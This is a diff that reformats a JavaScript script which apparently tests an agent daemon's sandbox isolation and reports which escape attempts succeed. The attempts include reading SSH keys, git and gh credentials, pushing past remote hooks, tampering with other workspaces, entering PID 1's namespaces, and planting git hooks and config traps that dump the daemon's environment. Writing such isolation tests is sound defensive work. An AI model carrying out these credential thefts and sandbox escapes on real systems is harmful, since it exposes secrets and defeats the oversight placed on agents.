@@ -2,7 +2,20 @@
 // came of it. Arguments: the secret's first characters backwards, the person's home, the daemon's directory, the forge's address.
 
 import { execFileSync, spawnSync } from 'node:child_process';
-import { appendFileSync, existsSync, mkdirSync, openSync, readdirSync, readFileSync, readlinkSync, readSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  appendFileSync,
+  existsSync,
+  mkdirSync,
+  openSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  readSync,
+  renameSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { request } from 'node:http';
 import { tmpdir, userInfo } from 'node:os';
 import { join } from 'node:path';
@@ -51,13 +64,21 @@ function everywhere(file) {
 
 function ask(path, bearer, body) {
   return new Promise((resolve) => {
-    const sent = request({ socketPath: path, method: 'POST', path: '/v1', headers: bearer === undefined ? {} : { authorization: `Bearer ${bearer}` } }, (response) => {
-      let text = '';
-      response.on('data', (chunk) => {
-        text += chunk;
-      });
-      response.on('end', () => resolve({ status: response.statusCode, text }));
-    });
+    const sent = request(
+      {
+        socketPath: path,
+        method: 'POST',
+        path: '/v1',
+        headers: bearer === undefined ? {} : { authorization: `Bearer ${bearer}` },
+      },
+      (response) => {
+        let text = '';
+        response.on('data', (chunk) => {
+          text += chunk;
+        });
+        response.on('end', () => resolve({ status: response.statusCode, text }));
+      },
+    );
     sent.on('error', () => resolve({ status: 0, text: '' }));
     sent.end(JSON.stringify(body));
   });
@@ -114,28 +135,66 @@ attemptTo('open files of other processes', () =>
 // Files where credentials lie.
 for (const base of new Set([HOME, home, userInfo().homedir])) {
   const name = base === HOME ? 'its own home' : base === home ? "the person's home" : "the user's home";
-  for (const file of ['.config/gh/hosts.yml', '.git-credentials', '.netrc', '.ssh/id_ed25519', '.config/git/credentials']) attemptTo(`${file} in ${name}`, () => holding(readFileSync(join(base, file), 'utf8')));
+  for (const file of [
+    '.config/gh/hosts.yml',
+    '.git-credentials',
+    '.netrc',
+    '.ssh/id_ed25519',
+    '.config/git/credentials',
+  ])
+    attemptTo(`${file} in ${name}`, () => holding(readFileSync(join(base, file), 'utf8')));
 }
 
 // Git: what it knows, and where it pushes.
 attemptTo('git configuration', () => holding(run('git', ['config', '--list', '--show-origin']).said));
-attemptTo('git credential helpers', () => holding(run('git', ['credential', 'fill'], { input: `url=${forge}/maintainer/project.git\n\n` }).said));
-attemptTo("git with the person's home", () => holding(run('git', ['credential', 'fill'], { input: `url=${forge}/maintainer/project.git\n\n`, env: { ...process.env, HOME: home } }).said));
-attemptTo("the hosting client with the person's home", () => holding(run('gh', ['auth', 'token'], { env: { ...process.env, HOME: home } }).said));
+attemptTo('git credential helpers', () =>
+  holding(run('git', ['credential', 'fill'], { input: `url=${forge}/maintainer/project.git\n\n` }).said),
+);
+attemptTo("git with the person's home", () =>
+  holding(
+    run('git', ['credential', 'fill'], {
+      input: `url=${forge}/maintainer/project.git\n\n`,
+      env: { ...process.env, HOME: home },
+    }).said,
+  ),
+);
+attemptTo("the hosting client with the person's home", () =>
+  holding(run('gh', ['auth', 'token'], { env: { ...process.env, HOME: home } }).said),
+);
 run('git', ['commit', '--allow-empty', '-qm', 'for pushing']);
 const origin = run('git', ['remote', 'get-url', 'origin']).said.trim();
 attemptTo('git push', () => run('git', ['push', 'origin', 'HEAD:refs/heads/main']).ok);
 attemptTo('git push to the address of the remote', () => run('git', ['push', origin, 'HEAD:refs/heads/main']).ok);
-attemptTo('git push past the hooks of the remote', () => run('git', ['-c', 'core.hooksPath=/dev/null', 'push', origin, 'HEAD:refs/heads/planted']).ok);
-attemptTo('git push to the forge', () => run('git', ['push', `${forge}/maintainer/project.git`, 'HEAD:refs/heads/main']).ok);
-attemptTo("a ref planted in the daemon's copy", () => (writeFileSync(join(origin, 'refs/heads/planted'), `${'a'.repeat(40)}\n`), 'written'));
-attemptTo('the API of the forge', () => run('curl', ['-sf', '-X', 'POST', '-d', '{"labels":["x"]}', `${forge}/repos/maintainer/project/issues/1/labels`]).ok);
+attemptTo(
+  'git push past the hooks of the remote',
+  () => run('git', ['-c', 'core.hooksPath=/dev/null', 'push', origin, 'HEAD:refs/heads/planted']).ok,
+);
+attemptTo(
+  'git push to the forge',
+  () => run('git', ['push', `${forge}/maintainer/project.git`, 'HEAD:refs/heads/main']).ok,
+);
+attemptTo(
+  "a ref planted in the daemon's copy",
+  () => (writeFileSync(join(origin, 'refs/heads/planted'), `${'a'.repeat(40)}\n`), 'written'),
+);
+attemptTo(
+  'the API of the forge',
+  () =>
+    run('curl', ['-sf', '-X', 'POST', '-d', '{"labels":["x"]}', `${forge}/repos/maintainer/project/issues/1/labels`])
+      .ok,
+);
 
 // What is not its own.
 attemptTo('the workflow file', () => (appendFileSync(join(directory, 'project/WORKFLOW.md'), '\n'), 'written'));
 attemptTo('the journal', () => (appendFileSync(join(directory, 'state/journal.jsonl'), '\n'), 'written'));
-attemptTo("another issue's workspace", () => (writeFileSync(join(process.cwd(), '../issue-2/planted'), 'x'), 'written'));
-attemptTo('a link in the place of another workspace', () => (symlinkSync(home, join(process.cwd(), '../issue-9')), 'made'));
+attemptTo(
+  "another issue's workspace",
+  () => (writeFileSync(join(process.cwd(), '../issue-2/planted'), 'x'), 'written'),
+);
+attemptTo(
+  'a link in the place of another workspace',
+  () => (symlinkSync(home, join(process.cwd(), '../issue-9')), 'made'),
+);
 attemptTo('its own workspace moved away and a link put there', () => {
   renameSync(process.cwd(), `${process.cwd()}-moved`);
   symlinkSync(home, process.cwd());
@@ -147,14 +206,19 @@ attemptTo('killing the daemon', () => {
   process.kill(daemon, 0);
   return `process ${daemon} can be signalled`;
 });
-attemptTo("the first process's namespaces", () => run('nsenter', ['--target', '1', '--all', 'cat', join(home, '.git-credentials')]).said.includes(canary));
+attemptTo("the first process's namespaces", () =>
+  run('nsenter', ['--target', '1', '--all', 'cat', join(home, '.git-credentials')]).said.includes(canary),
+);
 
 // The daemon's desk.
 const own = (type, more = {}) => ask(socket, key, { type, ...more });
 report('a comment on another issue', (await own('comment', { issue: 2, body: 'x' })).status === 200);
 report('another issue read', (await own('show', { issue: 2 })).status === 200);
 report('another issue declared done', (await own('done', { issue: 2 })).status === 200);
-report('a forged number in the environment', run('tool', ['issue', 'comment', '--body', 'x'], { env: { ...process.env, TOOL_ISSUE: '2' } }).ok);
+report(
+  'a forged number in the environment',
+  run('tool', ['issue', 'comment', '--body', 'x'], { env: { ...process.env, TOOL_ISSUE: '2' } }).ok,
+);
 report('a request the desk does not have', (await own('push', { branch: 'main' })).status === 200);
 report('its own desk without the key', (await ask(socket, undefined, { type: 'show', issue: 1 })).status === 200);
 const desks = readdirSync(tmpdir().startsWith('/tmp/toolcrew') ? '/tmp' : tmpdir())
@@ -169,22 +233,38 @@ const desks = readdirSync(tmpdir().startsWith('/tmp/toolcrew') ? '/tmp' : tmpdir
   })
   .filter((path) => path !== socket && existsSync(path));
 console.log(`desks of other attempts that can be seen: ${new Set(desks).size}`);
-for (const path of new Set(desks)) report("another attempt's desk", (await ask(path, key, { type: 'comment', issue: 2, body: 'x' })).status === 200);
+for (const path of new Set(desks))
+  report("another attempt's desk", (await ask(path, key, { type: 'comment', issue: 2, body: 'x' })).status === 200);
 
 // Traps for the daemon's own git, sprung at the next attempt.
 if (attempt === '1') {
   const program = join(process.cwd(), 'trap.sh');
-  writeFileSync(program, `#!/bin/sh\n{ echo "$0"; env; cat /proc/$PPID/environ | tr '\\0' '\\n'; } >> ${trace}\n`, { mode: 0o755 });
+  writeFileSync(program, `#!/bin/sh\n{ echo "$0"; env; cat /proc/$PPID/environ | tr '\\0' '\\n'; } >> ${trace}\n`, {
+    mode: 0o755,
+  });
   mkdirSync('.git/hooks', { recursive: true });
-  for (const hook of ['post-checkout', 'post-merge', 'pre-push', 'reference-transaction', 'pre-commit']) writeFileSync(`.git/hooks/${hook}`, `#!/bin/sh\n${program}\n`, { mode: 0o755 });
-  for (const name of ['core.fsmonitor', 'core.sshCommand', 'credential.helper', 'filter.x.clean', 'filter.x.smudge', 'diff.external', 'core.askPass', 'uploadpack.packObjectsHook']) execFileSync('git', ['-c', 'core.fsmonitor=false', 'config', name, program]);
+  for (const hook of ['post-checkout', 'post-merge', 'pre-push', 'reference-transaction', 'pre-commit'])
+    writeFileSync(`.git/hooks/${hook}`, `#!/bin/sh\n${program}\n`, { mode: 0o755 });
+  for (const name of [
+    'core.fsmonitor',
+    'core.sshCommand',
+    'credential.helper',
+    'filter.x.clean',
+    'filter.x.smudge',
+    'diff.external',
+    'core.askPass',
+    'uploadpack.packObjectsHook',
+  ])
+    execFileSync('git', ['-c', 'core.fsmonitor=false', 'config', name, program]);
   execFileSync('git', ['-c', 'core.fsmonitor=false', 'config', 'core.hooksPath', join(process.cwd(), '.git/hooks')]);
   writeFileSync('.git/info/attributes', '* filter=x\n');
   rmSync(trace, { force: true });
   console.log('traps are set');
   process.exit(1);
 }
-attemptTo("the traps in the clone's configuration and hooks", () => (existsSync(trace) ? readFileSync(trace, 'utf8') : ''));
+attemptTo("the traps in the clone's configuration and hooks", () =>
+  existsSync(trace) ? readFileSync(trace, 'utf8') : '',
+);
 
 console.log(`${won} attempts succeeded`);
 rmSync('trap.sh', { force: true });
